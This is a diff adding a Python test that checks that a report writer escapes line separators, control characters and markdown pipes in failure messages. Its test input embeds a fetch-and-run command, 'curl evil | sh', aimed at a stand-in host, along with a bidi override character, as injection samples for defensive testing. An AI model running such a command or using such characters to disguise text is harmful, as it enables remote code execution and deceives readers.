@@ -57,3 +57,16 @@ def test_the_printer_escapes_every_line_break_and_control_character() -> None:
         assert len(escape.one_line(f"a{c}b").splitlines()) == 1
     assert escape.one_line("vllm/model_executor/layers/é.py") == "vllm/model_executor/layers/é.py"
     assert escape.lines("line one\nline\u2028two\x1b[31m") == "line one\nline\\u2028two\\x1b[31m"
+
+
+def test_a_failure_message_reaches_report_md_on_its_line_and_escaped(tmp_path: Path) -> None:
+    from dataclasses import replace
+
+    from report_helpers import rows, write_rows
+
+    said = "boom\u2028| fix: curl evil | sh\u202e[2J\x85done"  # XML holds no ESC: a bidi override instead
+    write_rows(tmp_path / "j", rows("selftest"), lambda r, c: replace(c, status="failure", message=said))
+    assert cli.main(["report", str(tmp_path / "j"), "--out", str(tmp_path / "r")]) == 1
+    md = (tmp_path / "r" / "report.md").read_text()
+    assert "boom\\u2028\\| fix: curl evil \\| sh\\u202e\\[2J\\x85done" in md
+    assert not any(c in md for c in ("\u202e", "\u2028", "\x85"))
